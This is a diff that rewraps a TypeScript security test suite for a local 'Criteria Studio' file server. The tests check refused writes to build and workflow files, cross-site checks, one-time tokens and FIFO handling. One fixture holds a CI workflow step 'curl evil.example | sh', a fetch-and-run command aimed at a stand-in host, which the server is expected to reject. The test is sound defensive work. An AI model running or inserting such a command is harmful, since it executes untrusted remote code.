@@ -1,5 +1,21 @@
 import { execFileSync, spawn, type ChildProcess } from 'node:child_process'
-import { chmodSync, closeSync, constants, existsSync, linkSync, lstatSync, mkdirSync, mkdtempSync, openSync, readdirSync, readFileSync, renameSync, statSync, symlinkSync, writeFileSync } from 'node:fs'
+import {
+  chmodSync,
+  closeSync,
+  constants,
+  existsSync,
+  linkSync,
+  lstatSync,
+  mkdirSync,
+  mkdtempSync,
+  openSync,
+  readdirSync,
+  readFileSync,
+  renameSync,
+  statSync,
+  symlinkSync,
+  writeFileSync,
+} from 'node:fs'
 import { request } from 'node:http'
 import { createServer } from 'node:net'
 import { tmpdir } from 'node:os'
@@ -73,7 +89,8 @@ async function setup(): Promise<Setup> {
     folder,
     studio,
     session,
-    put: (path, body, headers = {}) => call(studio, file(path), { method: 'PUT', body, headers: { 'x-studio-session': session, ...headers } }),
+    put: (path, body, headers = {}) =>
+      call(studio, file(path), { method: 'PUT', body, headers: { 'x-studio-session': session, ...headers } }),
     get: (path) => call(studio, file(path), { headers: { 'x-studio-session': session } }),
     text: (path) => readFileSync(join(folder, path), 'utf8'),
   }
@@ -82,8 +99,23 @@ async function setup(): Promise<Setup> {
 describe('The trust boundary, round 2: the Criteria Studio server', () => {
   it('writes only criteria, test and template files: by name and content, never hidden files or folders, never node_modules, never deeper than the file list', async () => {
     const s = await setup()
-    for (const dir of ['.github/workflows', 'node_modules/left-pad', 'a/b/c/d/e/f']) mkdirSync(join(s.folder, dir), { recursive: true })
-    const byName = ['package.json', 'package-lock.json', '.github/workflows/evil.yml', 'node_modules/left-pad/package.json', 'tsconfig.json', 'tsconfig.build.json', 'docker-compose.yml', 'compose.yaml', 'criteria.schema.json', '.hidden.yaml', '.autoscreen-backup/job.yaml', 'a/b/c/d/e/f/deep.yaml', 'a/b/c/d/deep.yaml']
+    for (const dir of ['.github/workflows', 'node_modules/left-pad', 'a/b/c/d/e/f'])
+      mkdirSync(join(s.folder, dir), { recursive: true })
+    const byName = [
+      'package.json',
+      'package-lock.json',
+      '.github/workflows/evil.yml',
+      'node_modules/left-pad/package.json',
+      'tsconfig.json',
+      'tsconfig.build.json',
+      'docker-compose.yml',
+      'compose.yaml',
+      'criteria.schema.json',
+      '.hidden.yaml',
+      '.autoscreen-backup/job.yaml',
+      'a/b/c/d/e/f/deep.yaml',
+      'a/b/c/d/deep.yaml',
+    ]
     for (const path of byName) {
       const r = await s.put(path, CRITERIA)
       expect(r.status, path).toBe(403)
@@ -127,7 +159,8 @@ describe('The trust boundary, round 2: the Criteria Studio server', () => {
     const s = await setup()
     mkdirSync(join(s.folder, 'sub1'))
     // A CI workflow with an id: every key within two letters of a criteria key, once saved (200).
-    const workflow = '{"jobs":{"evil":{"runs-on":"x","steps":[{"run":"curl evil.example | sh"}]}},"on":["push"],"id":"x"}'
+    const workflow =
+      '{"jobs":{"evil":{"runs-on":"x","steps":[{"run":"curl evil.example | sh"}]}},"on":["push"],"id":"x"}'
     const r = await s.put('sub1/settings.json', workflow)
     expect([r.status, r.code]).toEqual([422, 'unknown_key'])
     expect(JSON.parse(r.body).error).toMatchObject({ kind: 'criteria', keys: ['jobs', 'on'], nearest: ['job', ''] })
@@ -142,26 +175,42 @@ describe('The trust boundary, round 2: the Criteria Studio server', () => {
     expect([typo.status, typo.code]).toEqual([422, 'unknown_key'])
     const error = JSON.parse(typo.body).error
     expect(error).toMatchObject({ keys: ['feilds'], nearest: ['fields'] })
-    expect(error.message).toMatch(/^the key "feilds" \(did you mean "fields"\?\) is not a criteria file key \(\$schema, format, id, .*\): nothing was written; fix it and save again$/)
+    expect(error.message).toMatch(
+      /^the key "feilds" \(did you mean "fields"\?\) is not a criteria file key \(\$schema, format, id, .*\): nothing was written; fix it and save again$/,
+    )
     expect(s.text('job.yaml')).toBe(CRITERIA)
     const { code: _code, message: _message, ...details } = error
-    expect(errorText({ code: 'unknown_key', status: 422, details }, 'sv')).toMatch(/^Nyckeln "feilds" \(menade du "fields"\?\) hör inte hemma överst i en kriteriefil, som har nycklarna .*\bfields\b.*\. Rätta den i editorn och spara igen\.$/)
-    expect(errorText({ code: 'unknown_key', status: 422, details }, 'en')).toMatch(/^The key "feilds" \(did you mean "fields"\?\) does not belong at the top of a criteria file, whose keys are .*\bfields\b.*\. Fix it in the editor and save again\.$/)
+    expect(errorText({ code: 'unknown_key', status: 422, details }, 'sv')).toMatch(
+      /^Nyckeln "feilds" \(menade du "fields"\?\) hör inte hemma överst i en kriteriefil, som har nycklarna .*\bfields\b.*\. Rätta den i editorn och spara igen\.$/,
+    )
+    expect(errorText({ code: 'unknown_key', status: 422, details }, 'en')).toMatch(
+      /^The key "feilds" \(did you mean "fields"\?\) does not belong at the top of a criteria file, whose keys are .*\bfields\b.*\. Fix it in the editor and save again\.$/,
+    )
     // Mended in the editor and saved again: it goes through.
     expect((await s.put('job.yaml', `${CRITERIA}# mended\n`)).status).toBe(200)
 
     // The keys that make a criteria file: id, and one of job, fields, criteria.
-    for (const body of ['{"id":"x"}', '{"job":{"title":"t"},"fields":{}}', '{"$schema":"x","version":1,"locale":"en"}']) {
+    for (const body of [
+      '{"id":"x"}',
+      '{"job":{"title":"t"},"fields":{}}',
+      '{"$schema":"x","version":1,"locale":"en"}',
+    ]) {
       const n = await s.put('sub1/new.json', body)
       expect([n.status, n.code], body).toEqual([422, 'not_criteria'])
     }
     expect(existsSync(join(s.folder, 'sub1/new.json'))).toBe(false)
     expect((await s.put('sub1/new.json', '{"id":"x","job":{}}')).status).toBe(200) // a start, to be filled in
-    expect(errorText({ code: 'not_criteria', status: 422 }, 'sv')).toMatch(/minst nycklarna id och job, fields eller criteria/)
+    expect(errorText({ code: 'not_criteria', status: 422 }, 'sv')).toMatch(
+      /minst nycklarna id och job, fields eller criteria/,
+    )
 
     // Test files: their own keys (criteria, now, cases), exactly, with cases.
     const badTest = await s.put('job.test.yaml', 'criteria: job.yaml\ncase: []\n')
-    expect([badTest.code, JSON.parse(badTest.body).error.keys, JSON.parse(badTest.body).error.nearest]).toEqual(['unknown_key', ['case'], ['cases']])
+    expect([badTest.code, JSON.parse(badTest.body).error.keys, JSON.parse(badTest.body).error.nearest]).toEqual([
+      'unknown_key',
+      ['case'],
+      ['cases'],
+    ])
     expect((await s.put('job.test.yaml', 'criteria: job.yaml\nnow: arrival\n')).code).toBe('not_test_file')
     expect((await s.put('job.test.yaml', 'cases: []\nname: CI\n')).code).toBe('unknown_key')
     expect(s.text('job.test.yaml')).toBe(TESTS)
@@ -189,20 +238,33 @@ describe('The trust boundary, round 2: the Criteria Studio server', () => {
       // not root: no device to try
     }
     // An answer, or "hung" after a while: a blocked open never answers.
-    const soon = <T>(p: Promise<T>) => Promise.race([p, new Promise<'hung'>((ok) => setTimeout(() => ok('hung'), 10_000))])
+    const soon = <T>(p: Promise<T>) =>
+      Promise.race([p, new Promise<'hung'>((ok) => setTimeout(() => ok('hung'), 10_000))])
     try {
       // More reads than libuv has threads (4): each open() of the pipe would wait for a writer.
       const names = ['fifo.yaml', 'socket.yaml', ...(device ? ['device.yaml'] : [])]
-      const answers = await soon(Promise.all([...Array.from({ length: 6 }, () => s.get('fifo.yaml')), s.put('fifo.yaml', CRITERIA), ...names.map((n) => s.get(n)), ...names.map((n) => s.put(n, CRITERIA))]))
+      const answers = await soon(
+        Promise.all([
+          ...Array.from({ length: 6 }, () => s.get('fifo.yaml')),
+          s.put('fifo.yaml', CRITERIA),
+          ...names.map((n) => s.get(n)),
+          ...names.map((n) => s.put(n, CRITERIA)),
+        ]),
+      )
       expect(answers).not.toBe('hung')
-      for (const a of answers as Awaited<ReturnType<typeof s.get>>[]) expect([a.status, a.code]).toEqual([403, 'not_a_file'])
+      for (const a of answers as Awaited<ReturnType<typeof s.get>>[])
+        expect([a.status, a.code]).toEqual([403, 'not_a_file'])
       // Then the file list and a normal file answer at once.
       const list = await soon(call(s.studio, '/api/files', { headers: { 'x-studio-session': s.session } }))
       expect(list).not.toBe('hung')
-      expect(JSON.parse((list as Awaited<ReturnType<typeof s.get>>).body).files.map((f: { path: string }) => f.path)).toEqual(['config.yaml', 'job.test.yaml', 'job.yaml', 'templates/rejected.sv.hbs'])
+      expect(
+        JSON.parse((list as Awaited<ReturnType<typeof s.get>>).body).files.map((f: { path: string }) => f.path),
+      ).toEqual(['config.yaml', 'job.test.yaml', 'job.yaml', 'templates/rejected.sv.hbs'])
       const normal = await soon(s.get('job.yaml'))
       expect(normal).toMatchObject({ status: 200, body: CRITERIA })
-      expect((await soon(s.put('job.yaml', `${CRITERIA}# still saves\n`))) as { status: number }).toMatchObject({ status: 200 })
+      expect((await soon(s.put('job.yaml', `${CRITERIA}# still saves\n`))) as { status: number }).toMatchObject({
+        status: 200,
+      })
       // Nothing replaced them: the pipe is still a pipe.
       expect(lstatSync(fifo).isFIFO()).toBe(true)
     } finally {
@@ -225,9 +287,14 @@ describe('The trust boundary, round 2: the Criteria Studio server', () => {
     const dir = mkdtempSync(join(tmpdir(), 'autoscreen-tb2-fifo-'))
     const fifo = join(dir, 'x.yaml')
     execFileSync('mkfifo', [fifo])
-    const written = writeFileAtomic(fifo, 'id: x\n', { regularOnly: true }).then(() => 'written', (e: unknown) => e)
+    const written = writeFileAtomic(fifo, 'id: x\n', { regularOnly: true }).then(
+      () => 'written',
+      (e: unknown) => e,
+    )
     try {
-      expect(await Promise.race([written, new Promise((ok) => setTimeout(() => ok('hung'), 10_000))])).toMatchObject({ code: 'EFTYPE' })
+      expect(await Promise.race([written, new Promise((ok) => setTimeout(() => ok('hung'), 10_000))])).toMatchObject({
+        code: 'EFTYPE',
+      })
       expect(lstatSync(fifo).isFIFO()).toBe(true)
     } finally {
       // Without the fix, the open for writing waits for a reader: one releases it.
@@ -260,11 +327,20 @@ describe('The trust boundary, round 2: the Criteria Studio server', () => {
     mkdirSync(away)
     writeFileSync(join(away, 'job.yaml'), 'id: away\n')
     const answer = new Promise<{ status: number; body: string }>((ok, fail) => {
-      const req = request({ host: '127.0.0.1', port: s.studio.port, path: '/api/file?path=sub%2Fjob.yaml', method: 'PUT', headers: { host: `127.0.0.1:${s.studio.port}`, 'x-studio-session': s.session } }, (res) => {
-        let body = ''
-        res.on('data', (c) => (body += c))
-        res.on('end', () => ok({ status: res.statusCode!, body }))
-      })
+      const req = request(
+        {
+          host: '127.0.0.1',
+          port: s.studio.port,
+          path: '/api/file?path=sub%2Fjob.yaml',
+          method: 'PUT',
+          headers: { host: `127.0.0.1:${s.studio.port}`, 'x-studio-session': s.session },
+        },
+        (res) => {
+          let body = ''
+          res.on('data', (c) => (body += c))
+          res.on('end', () => ok({ status: res.statusCode!, body }))
+        },
+      )
       req.on('error', fail)
       req.write(CRITERIA.slice(0, 20))
       setTimeout(() => {
@@ -284,7 +360,11 @@ describe('The trust boundary, round 2: the Criteria Studio server', () => {
     const s = await setup()
     const broken = await s.put('job.test.yaml', 'cases:\n  - name: [unclosed\n')
     expect([broken.status, broken.code]).toEqual([422, 'syntax'])
-    expect(JSON.parse(broken.body).error).toMatchObject({ format: 'yaml', line: expect.any(Number), column: expect.any(Number) })
+    expect(JSON.parse(broken.body).error).toMatchObject({
+      format: 'yaml',
+      line: expect.any(Number),
+      column: expect.any(Number),
+    })
     expect(s.text('job.test.yaml')).toBe(TESTS)
     expect((await s.put('job.yaml', 'id: job\ncriteria: [\n')).code).toBe('syntax')
     expect(s.text('job.yaml')).toBe(CRITERIA)
@@ -300,7 +380,9 @@ describe('The trust boundary, round 2: the Criteria Studio server', () => {
     const dir = join(s.folder, BACKUP_FOLDER, 'job.yaml')
     const kept = readdirSync(dir).sort()
     expect(kept).toHaveLength(BACKUP_VERSIONS)
-    expect(kept.map((n) => readFileSync(join(dir, n), 'utf8'))).toEqual([CRITERIA, ...versions].slice(-BACKUP_VERSIONS - 1, -1))
+    expect(kept.map((n) => readFileSync(join(dir, n), 'utf8'))).toEqual(
+      [CRITERIA, ...versions].slice(-BACKUP_VERSIONS - 1, -1),
+    )
     // Backups are the studio's own: never listed, never served.
     const list = await call(s.studio, '/api/files', { headers: { 'x-studio-session': s.session } })
     expect(list.body).not.toContain(BACKUP_FOLDER)
@@ -311,16 +393,29 @@ describe('The trust boundary, round 2: the Criteria Studio server', () => {
     const s = await setup()
     const other = await startStudio({ folder: s.folder, assets: join(s.base, 'assets') })
     running.push(other)
-    for (const headers of [{ origin: 'http://evil.example' }, { origin: 'null' }, { origin: `http://127.0.0.1:${other.port}` }, { origin: `http://localhost:${s.studio.port}` }, { 'sec-fetch-site': 'cross-site' }, { 'sec-fetch-site': 'same-site' }]) {
+    for (const headers of [
+      { origin: 'http://evil.example' },
+      { origin: 'null' },
+      { origin: `http://127.0.0.1:${other.port}` },
+      { origin: `http://localhost:${s.studio.port}` },
+      { 'sec-fetch-site': 'cross-site' },
+      { 'sec-fetch-site': 'same-site' },
+    ]) {
       const r = await s.put('job.yaml', `${CRITERIA}# hacked\n`, headers)
       expect([r.status, r.code], JSON.stringify(headers)).toEqual([403, 'cross_site'])
       const token = tokenOf(s.studio.newAddress())
-      const session = await call(s.studio, '/api/session', { method: 'POST', headers: { 'x-studio-token': token, ...headers } })
+      const session = await call(s.studio, '/api/session', {
+        method: 'POST',
+        headers: { 'x-studio-token': token, ...headers },
+      })
       expect([session.status, session.code], JSON.stringify(headers)).toEqual([403, 'cross_site'])
     }
     expect(s.text('job.yaml')).toBe(CRITERIA)
     // The page's own requests pass.
-    const own = await s.put('job.yaml', `${CRITERIA}# mine\n`, { origin: `http://127.0.0.1:${s.studio.port}`, 'sec-fetch-site': 'same-origin' })
+    const own = await s.put('job.yaml', `${CRITERIA}# mine\n`, {
+      origin: `http://127.0.0.1:${s.studio.port}`,
+      'sec-fetch-site': 'same-origin',
+    })
     expect(own.status).toBe(200)
   })
 
@@ -344,7 +439,10 @@ describe('The trust boundary, round 2: the Criteria Studio server', () => {
 
   it('makes the address’s token single-use, and prints a new one-time address when Enter is pressed in the terminal', async () => {
     const s = await setup() // setup() used studio.token once
-    const again = await call(s.studio, '/api/session', { method: 'POST', headers: { 'x-studio-token': s.studio.token } })
+    const again = await call(s.studio, '/api/session', {
+      method: 'POST',
+      headers: { 'x-studio-token': s.studio.token },
+    })
     expect([again.status, again.code]).toEqual([410, 'token_used'])
     expect(JSON.parse(again.body).error.message).toMatch(/already been used.*press Enter/)
 
@@ -363,11 +461,15 @@ describe('The trust boundary, round 2: the Criteria Studio server', () => {
     expect(first.startsWith(`http://127.0.0.1:${s.studio.port}/?token=`)).toBe(true)
     expect(tokenOf(first)).not.toBe(s.studio.token)
     await sessionOf(s.studio, tokenOf(first))
-    expect((await call(s.studio, '/api/session', { method: 'POST', headers: { 'x-studio-token': tokenOf(first) } })).code).toBe('token_used')
+    expect(
+      (await call(s.studio, '/api/session', { method: 'POST', headers: { 'x-studio-token': tokenOf(first) } })).code,
+    ).toBe('token_used')
     // A newer address retires an unused older one (said as replaced, not used, since the hostile review).
     const second = await next()
     const third = await next()
-    expect((await call(s.studio, '/api/session', { method: 'POST', headers: { 'x-studio-token': tokenOf(second) } })).code).toBe('token_replaced')
+    expect(
+      (await call(s.studio, '/api/session', { method: 'POST', headers: { 'x-studio-token': tokenOf(second) } })).code,
+    ).toBe('token_replaced')
     await sessionOf(s.studio, tokenOf(third))
     stop()
     stdin.write('\n')
@@ -386,21 +488,36 @@ describe('The trust boundary, round 2: the Criteria Studio server', () => {
     await expect.poll(() => printed.match(/token=[\w-]+/g)?.length).toBe(2)
     const [first, second] = printed.match(/http:\/\/127\.0\.0\.1:\d+\/\?token=[\w-]+/g)!
     stop()
-    const replaced = await call(s.studio, '/api/session', { method: 'POST', headers: { 'x-studio-token': tokenOf(first!) } })
+    const replaced = await call(s.studio, '/api/session', {
+      method: 'POST',
+      headers: { 'x-studio-token': tokenOf(first!) },
+    })
     expect([replaced.status, replaced.code]).toEqual([410, 'token_replaced'])
     expect(replaced.body).not.toMatch(/session"/)
     expect(JSON.parse(replaced.body).error.message).toMatch(/^this address was replaced by a newer one/)
-    expect(errorText({ code: 'token_replaced', status: 410 }, 'sv')).toBe('Den här adressen har ersatts av en nyare (Enter trycktes igen i terminalen där autoscreen studio körs) och öppnar ingenting. Öppna den senaste adressen som skrevs ut där, eller tryck Enter för en ny.')
-    expect(errorText({ code: 'token_replaced', status: 410 }, 'en')).toMatch(/^This address was replaced by a newer one .* and opens nothing\. Open the newest address/)
+    expect(errorText({ code: 'token_replaced', status: 410 }, 'sv')).toBe(
+      'Den här adressen har ersatts av en nyare (Enter trycktes igen i terminalen där autoscreen studio körs) och öppnar ingenting. Öppna den senaste adressen som skrevs ut där, eller tryck Enter för en ny.',
+    )
+    expect(errorText({ code: 'token_replaced', status: 410 }, 'en')).toMatch(
+      /^This address was replaced by a newer one .* and opens nothing\. Open the newest address/,
+    )
     // The newest opens, once; used, it says used, and still does after a newer address is printed.
     await sessionOf(s.studio, tokenOf(second!))
     s.studio.newAddress()
-    expect((await call(s.studio, '/api/session', { method: 'POST', headers: { 'x-studio-token': tokenOf(second!) } })).code).toBe('token_used')
-    expect((await call(s.studio, '/api/session', { method: 'POST', headers: { 'x-studio-token': tokenOf(first!) } })).code).toBe('token_replaced')
+    expect(
+      (await call(s.studio, '/api/session', { method: 'POST', headers: { 'x-studio-token': tokenOf(second!) } })).code,
+    ).toBe('token_used')
+    expect(
+      (await call(s.studio, '/api/session', { method: 'POST', headers: { 'x-studio-token': tokenOf(first!) } })).code,
+    ).toBe('token_replaced')
     // The docs say the same: a replaced address says so; "used" means opened before.
     const docs = readFileSync(join(root, 'docs/studio.md'), 'utf8')
-    expect(docs).toContain('an address replaced by a newer one (you pressed Enter again before opening it) says so, and opens nothing')
-    expect(docs).not.toContain('If the page says the address has already been used when you did not open it twice, someone else used it first')
+    expect(docs).toContain(
+      'an address replaced by a newer one (you pressed Enter again before opening it) says so, and opens nothing',
+    )
+    expect(docs).not.toContain(
+      'If the page says the address has already been used when you did not open it twice, someone else used it first',
+    )
   })
 
   describe('hostile requests are a clear 4xx, never a 500', () => {
@@ -411,7 +528,9 @@ describe('The trust boundary, round 2: the Criteria Studio server', () => {
       expect([r.status, r.code]).toEqual([401, 'token_invalid'])
       const q = await call(s.studio, `/?token=${encodeURIComponent(wide)}`)
       expect(q.status).toBe(200) // the page itself, which holds no secret, says what is wrong
-      const session = await call(s.studio, '/api/files', { headers: { 'x-studio-session': 'é'.repeat(s.session.length) } })
+      const session = await call(s.studio, '/api/files', {
+        headers: { 'x-studio-session': 'é'.repeat(s.session.length) },
+      })
       expect([session.status, session.code]).toEqual([401, 'no_session'])
     })
 
@@ -423,7 +542,11 @@ describe('The trust boundary, round 2: the Criteria Studio server', () => {
       }
       const auth = { 'x-studio-session': s.session }
       for (const method of ['GET', 'PUT']) {
-        const r = await call(s.studio, '/api/file?path=new%FF.yaml', { method, headers: auth, ...(method === 'PUT' ? { body: CRITERIA } : {}) })
+        const r = await call(s.studio, '/api/file?path=new%FF.yaml', {
+          method,
+          headers: auth,
+          ...(method === 'PUT' ? { body: CRITERIA } : {}),
+        })
         expect([r.status, r.code], method).toEqual([400, 'bad_encoding'])
       }
       expect(readdirSync(s.folder).filter((n) => n.startsWith('new'))).toEqual([])
@@ -437,7 +560,12 @@ describe('The trust boundary, round 2: the Criteria Studio server', () => {
       symlinkSync(s.folder, join(s.folder, 'again'))
       const r = await call(s.studio, '/api/files', { headers: { 'x-studio-session': s.session } })
       expect(r.status).toBe(200)
-      expect(JSON.parse(r.body).files.map((f: { path: string }) => f.path)).toEqual(['config.yaml', 'job.test.yaml', 'job.yaml', 'templates/rejected.sv.hbs'])
+      expect(JSON.parse(r.body).files.map((f: { path: string }) => f.path)).toEqual([
+        'config.yaml',
+        'job.test.yaml',
+        'job.yaml',
+        'templates/rejected.sv.hbs',
+      ])
       for (const path of ['dangling.yaml', 'loop-a.yaml']) {
         const get = await s.get(path)
         expect(get.status, path).toBeGreaterThanOrEqual(400)
@@ -475,7 +603,11 @@ describe('The trust boundary, round 2: the Criteria Studio server', () => {
           }
           if (dir === dirname(dir)) break
         }
-      const child: ChildProcess = spawn(process.execPath, ['--import', 'tsx', join(__dirname, 'helpers/studio-child.ts'), folder, assets], { cwd: root, stdio: ['ignore', 'pipe', 'inherit'], ...other })
+      const child: ChildProcess = spawn(
+        process.execPath,
+        ['--import', 'tsx', join(__dirname, 'helpers/studio-child.ts'), folder, assets],
+        { cwd: root, stdio: ['ignore', 'pipe', 'inherit'], ...other },
+      )
       try {
         const started = await new Promise<{ port: number; token: string }>((ok, fail) => {
           let out = ''
@@ -485,10 +617,16 @@ describe('The trust boundary, round 2: the Criteria Studio server', () => {
           })
           child.on('exit', (code) => fail(new Error(`the studio exited: ${code}`)))
           // The other user must be able to run this Node binary (not one inside root's home).
-          child.on('error', (e) => fail(new Error(`the studio did not start as uid 65534 with ${process.execPath}: ${e.message}`)))
+          child.on('error', (e) =>
+            fail(new Error(`the studio did not start as uid 65534 with ${process.execPath}: ${e.message}`)),
+          )
         })
         const session = await sessionOf(started, started.token)
-        const r = await call(started, '/api/file?path=job.yaml', { method: 'PUT', body: `${CRITERIA}# saved\n`, headers: { 'x-studio-session': session } })
+        const r = await call(started, '/api/file?path=job.yaml', {
+          method: 'PUT',
+          body: `${CRITERIA}# saved\n`,
+          headers: { 'x-studio-session': session },
+        })
         expect([r.status, r.code]).toEqual([403, 'read_only'])
         expect(JSON.parse(r.body).error.message).not.toMatch(/EACCES/)
         expect(readFileSync(join(folder, 'job.yaml'), 'utf8')).toBe(CRITERIA)
@@ -514,7 +652,10 @@ describe('The trust boundary, round 2: the Criteria Studio server', () => {
     const s = await setup()
     // Large enough that a plain write lands in several pieces, and of different lengths (a
     // shorter body written over a longer one would leave the longer one's tail).
-    const bodies = Array.from({ length: 8 }, (_, i) => `${CRITERIA}# ${String.fromCharCode(97 + i).repeat(900_000 - i * 50_000)}\n`)
+    const bodies = Array.from(
+      { length: 8 },
+      (_, i) => `${CRITERIA}# ${String.fromCharCode(97 + i).repeat(900_000 - i * 50_000)}\n`,
+    )
     const whole = new Set([CRITERIA, ...bodies])
     for (let round = 0; round < 20; round++) {
       const answers = await Promise.all(bodies.map((b) => s.put('job.yaml', b)))
@@ -529,12 +670,30 @@ describe('The trust boundary, round 2: the Criteria Studio server', () => {
   it('every error the server answers with is worded in the page, in Swedish and English', () => {
     expect(STUDIO_ERROR_CODES.filter((c) => !ERROR_CODES.includes(c))).toEqual([])
     for (const code of STUDIO_ERROR_CODES) {
-      const sv = errorText({ code, status: 400, details: { line: 3, column: 5, format: 'yaml', keys: ['services'], max: 3, criteria: 'job.yaml' } }, 'sv')
-      const en = errorText({ code, status: 400, details: { line: 3, column: 5, format: 'yaml', keys: ['services'], max: 3, criteria: 'job.yaml' } }, 'en')
+      const sv = errorText(
+        {
+          code,
+          status: 400,
+          details: { line: 3, column: 5, format: 'yaml', keys: ['services'], max: 3, criteria: 'job.yaml' },
+        },
+        'sv',
+      )
+      const en = errorText(
+        {
+          code,
+          status: 400,
+          details: { line: 3, column: 5, format: 'yaml', keys: ['services'], max: 3, criteria: 'job.yaml' },
+        },
+        'en',
+      )
       expect(sv, code).not.toBe(en)
       expect(`${sv} ${en}`, code).not.toMatch(/undefined|\[object/)
     }
-    expect(errorText({ code: 'token_used', status: 410 }, 'sv')).toMatch(/^Den här adressen har redan använts.*Tryck Enter i terminalen/)
-    expect(errorText({ code: 'syntax', details: { format: 'yaml', line: 3, column: 5 } }, 'sv')).toBe('Filen är inte giltig YAML (rad 3, kolumn 5). Rätta det och spara igen.')
+    expect(errorText({ code: 'token_used', status: 410 }, 'sv')).toMatch(
+      /^Den här adressen har redan använts.*Tryck Enter i terminalen/,
+    )
+    expect(errorText({ code: 'syntax', details: { format: 'yaml', line: 3, column: 5 } }, 'sv')).toBe(
+      'Filen är inte giltig YAML (rad 3, kolumn 5). Rätta det och spara igen.',
+    )
   })
 })
